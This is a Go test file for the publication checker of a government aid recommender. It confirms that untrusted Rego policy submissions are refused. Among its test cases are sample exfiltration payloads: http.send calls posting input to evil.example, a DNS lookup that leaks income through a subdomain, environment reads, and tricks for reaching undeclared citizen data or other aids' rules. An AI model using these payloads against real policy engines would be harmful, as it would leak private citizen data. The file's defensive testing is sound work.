package recommend_test

import (
	"context"
	"encoding/json"
	"reflect"
	"strings"
	"testing"

	"github.com/obert-gov/obert/gateway/recommend"
	"github.com/obert-gov/obert/policy"
)

// withRule replaces the publication's rule by header (the package and
// imports) followed by body.
func withRule(body string) func(p *recommend.Publication) {
	return func(p *recommend.Publication) {
		p.Rule = "package obert.aids." + p.Aid.ID + "\n\nimport rego.v1\n\nimport data.obert.aids.lib\n\n" +
			"criteria[\"over-70\"] := lib.age >= 70\n\ncriteria[\"low-income\"] := input.facts.tax.income_annual <= 11000\n\n" + body + "\n"
	}
}

// censusOnly declares census alone, as an aid that has no business with
// the citizen's income would.
func censusOnly(p *recommend.Publication) {
	p.Aid.Categories = []string{"census"}
	p.Aid.Criteria[1].Category = "census"
	p.Rule = strings.Replace(p.Rule, "input.facts.tax.income_annual <= 11000", "input.facts.census.household_size == 1", 1)
}

// TestPublicationAttacks: publications an untrusted administration could
// send to reach the network, facts it did not declare, another aid or the
// shared helpers, or to flood the catalogue; each is refused naming its
// cause, and the catalogue is left as it was.
func TestPublicationAttacks(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	r := newRecommender(t)
	before := r.Aids()
	for _, c := range []struct {
		name   string
		change func(p *recommend.Publication)
		want   string
	}{
		{"http.send in the rule", withRule(`criteria["x"] := http.send({"method": "POST", "url": "https://evil.example/", "body": input}).status_code == 200`), "calls http.send"},
		{"http.send in the tests", func(p *recommend.Publication) {
			p.Tests += "\ntest_leak if {\n\thttp.send({\"method\": \"GET\", \"url\": \"https://evil.example/\"})\n}\n"
		}, "tests: line 19: calls http.send"},
		{"net.lookup_ip_addr", withRule(`criteria["x"] := count(net.lookup_ip_addr(concat(".", [input.facts.tax.income_annual, "evil.example"]))) > 0`), "calls net.lookup_ip_addr"},
		{"opa.runtime", withRule(`criteria["x"] := opa.runtime().env.HOME != ""`), "calls opa.runtime"},
		{"time.now_ns", withRule(`criteria["x"] := time.now_ns() > 0`), "calls time.now_ns"},
		{"print", withRule(`criteria["x"] if print(input.facts.tax)`), "calls print"},
		{"undeclared category through a variable", func(p *recommend.Publication) {
			censusOnly(p)
			p.Rule += "\nf := input\n\nleak := f.facts.tax.income_annual\n"
		}, "reads input as a whole"},
		{"undeclared category through walk", func(p *recommend.Publication) {
			censusOnly(p)
			p.Rule += "\nleak contains v if walk(input, [_, v])\n"
		}, "reads input as a whole"},
		{"undeclared category through object.get", func(p *recommend.Publication) {
			censusOnly(p)
			p.Rule += "\nleak := object.get(input, [\"facts\", \"tax\", \"income_annual\"], 0)\n"
		}, "reads input as a whole"},
		{"undeclared category through a comprehension", func(p *recommend.Publication) {
			censusOnly(p)
			p.Rule += "\nleak := {k: v | some k, v in input.facts}\n"
		}, "reads input.facts as a whole"},
		{"undeclared category through an import", func(p *recommend.Publication) {
			censusOnly(p)
			p.Rule = strings.Replace(p.Rule, "import data.obert.aids.lib\n", "import data.obert.aids.lib\n\nimport input.facts as f\n", 1) +
				"\nleak := f.tax.income_annual\n"
		}, `reads category "tax"`},
		{"input through an import under another name", func(p *recommend.Publication) {
			censusOnly(p)
			p.Rule = strings.Replace(p.Rule, "import data.obert.aids.lib\n", "import data.obert.aids.lib\n\nimport input as i\n", 1) +
				"\nleak := walk(i)\n"
		}, "reads input as a whole"},
		{"undeclared category through a helper", func(p *recommend.Publication) {
			p.Aid.Categories = []string{"tax"}
			p.Aid.Criteria[0].Category = "tax"
		}, `reads category "census" through lib.age`},
		{"input.facts by a computed key", withRule(`criteria["x"] := count(input.facts[lower("TAX")]) > 0`), "computed key"},
		{"package outside the namespace", func(p *recommend.Publication) {
			p.Rule = strings.Replace(p.Rule, "package obert.aids.ajut_gent_gran_girona", "package obert.guard", 1)
		}, "package must be obert.aids.ajut_gent_gran_girona"},
		{"the id lib", func(p *recommend.Publication) {
			p.Aid.ID = "lib"
			p.Rule = strings.ReplaceAll(p.Rule, "ajut_gent_gran_girona", "lib")
			p.Tests = strings.ReplaceAll(p.Tests, "ajut_gent_gran_girona", "lib")
		}, `aid.id: "lib" is reserved`},
		{"the id recommend", func(p *recommend.Publication) { p.Aid.ID = "recommend" }, `aid.id: "recommend" is reserved`},
		{"a rule defining the helpers' package", func(p *recommend.Publication) {
			p.Rule = strings.Replace(p.Rule, "package obert.aids.ajut_gent_gran_girona", "package obert.aids.lib", 1)
		}, "package must be obert.aids.ajut_gent_gran_girona (is obert.aids.lib)"},
		{"another aid's package", withRule(`criteria["x"] := data.obert.aids.teleassistance.criteria["lives-alone"]`), "reads data.obert.aids.teleassistance;"},
		{"another aid's package through an import", func(p *recommend.Publication) {
			p.Rule = strings.Replace(p.Rule, "import data.obert.aids.lib\n", "import data.obert.aids.lib\n\nimport data.obert.aids.rgc\n", 1) +
				"\ncriteria[\"x\"] := rgc.criteria[\"aged-23-or-more\"]\n"
		}, "reads data.obert.aids.rgc;"},
		{"the tests reading another aid", func(p *recommend.Publication) {
			p.Tests += "\ntest_other if data.obert.aids.rgc.criteria\n"
		}, "tests: line 18: reads data.obert.aids.rgc;"},
		{"bare data", withRule(`leak := data`), "reads data;"},
		{"data.obert.aids", withRule(`leak := data.obert.aids`), "reads data.obert.aids;"},
		{"data.obert.aids by a computed key", withRule(`leak := data.obert.aids[concat("", ["r", "gc"])]`), "reads data.obert.aids["},
		{"the helpers as a whole", withRule(`leak := lib`), "reads data.obert.aids.lib;"},
		{"runs past its time limit", withRule(`criteria["x"] := count(numbers.range(1, 1000000000)) > 0`), "250 ms"},
		{"oversized rule", withRule("# " + strings.Repeat("x", 33<<10)), "rule: at most 32 KiB"},
		{"oversized tests", func(p *recommend.Publication) { p.Tests += "# " + strings.Repeat("x", 33<<10) + "\n" }, "tests: at most 32 KiB"},
		{"oversized title", func(p *recommend.Publication) { p.Aid.Title["ca"] = strings.Repeat("À", 201) }, "aid.title.ca: at most 200 characters"},
		{"oversized summary", func(p *recommend.Publication) { p.Aid.Summary["en"] = strings.Repeat("s", 2001) }, "aid.summary.en: at most 2000 characters"},
		{"oversized criterion text", func(p *recommend.Publication) { p.Aid.Criteria[0].Text["es"] = strings.Repeat("s", 501) }, "aid.criteria.over-70.text.es: at most 500 characters"},
		{"oversized legal reference", func(p *recommend.Publication) { p.Aid.LegalReference = strings.Repeat("l", 501) }, "aid.legal_reference: at most 500 characters"},
		{"oversized apply url", func(p *recommend.Publication) { p.Aid.ApplyURL = "https://x.example/" + strings.Repeat("a", 2048) }, "aid.apply_url: at most 2048 characters"},
		{"a control character in a text", func(p *recommend.Publication) { p.Aid.Title["en"] = "Aid\x1b[2J for older people" }, "aid.title.en: a control character"},
		{"a language nobody reads", func(p *recommend.Publication) { p.Aid.Title["xx"] = "x" }, "aid.title: only ca, es and en"},
		{"too many criteria", func(p *recommend.Publication) {
			for i := range 50 {
				p.Aid.Criteria = append(p.Aid.Criteria, recommend.CriterionSpec{Name: "c" + strings.Repeat("x", i+1), Category: "tax", Text: p.Aid.Criteria[0].Text})
			}
		}, "aid.criteria: at most 50"},
		{"too many categories", func(p *recommend.Publication) {
			for i := range 10 {
				p.Aid.Categories = append(p.Aid.Categories, "c"+strings.Repeat("x", i+1))
			}
		}, "aid.categories: at most 10"},
		{"a city's aid claiming a county", func(p *recommend.Publication) {
			p.Aid.Area = &recommend.Area{County: "20"}
		}, "aid.area: a city's aid names its municipality"},
		{"a state aid with an area", func(p *recommend.Publication) {
			p.Aid.Level, p.Aid.Area = "state", &recommend.Area{Municipality: "17079"}
		}, "aid.area: only county and city aids have an area"},
		{"a document Obert does not issue", func(p *recommend.Publication) {
			p.Aid.Documents = []recommend.AidDocument{{Obert: "criminal-record"}}
		}, `aid.documents[0]: "criminal-record" is not one of Obert's documents`},
		{"a step with a direction override", func(p *recommend.Publication) {
			p.Aid.Steps = []map[string]string{{"ca": "a\u202eb", "es": "a", "en": "a"}}
		}, "aid.steps[0]"},
		{"a life event nobody knows", func(p *recommend.Publication) {
			p.Aid.LifeEvents = []string{"winning-the-lottery"}
		}, `aid.life_events: "winning-the-lottery" is not one of`},
		{"a deadline that is not a date", func(p *recommend.Publication) {
			p.Aid.Deadline = "soon"
		}, "aid.deadline: a date YYYY-MM-DD"},
	} {
		t.Run(c.name, func(t *testing.T) {
			p := publication()
			c.change(&p)
			ps := r.Check(ctx, p, known, runTests)
			if !strings.Contains(strings.Join(ps, "\n"), c.want) {
				t.Errorf("problems do not say %q: %q", c.want, ps)
			}
			if !reflect.DeepEqual(r.Aids(), before) {
				t.Fatal("a refused publication changed the catalogue")
			}
		})
	}
}

// TestShippedAidsPassCheck: every aid of the seed passes the checks an
// administration's publication goes through.
func TestShippedAidsPassCheck(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	r := newRecommender(t)
	raw, err := policy.AidCatalogue()
	if err != nil {
		t.Fatal(err)
	}
	var seed []recommend.Aid
	if err := json.Unmarshal(raw, &seed); err != nil {
		t.Fatal(err)
	}
	mods, err := policy.AidModules()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range seed {
		p := recommend.Publication{Aid: a, Rule: mods["rego/aids/"+a.ID+".rego"], Tests: mods["rego/aids/"+a.ID+"_test.rego"]}
		t.Run(a.ID, func(t *testing.T) {
			t.Parallel()
			if ps := r.Check(ctx, p, known, runTests); len(ps) > 0 {
				t.Errorf("%q", ps)
			}
		})
	}
}
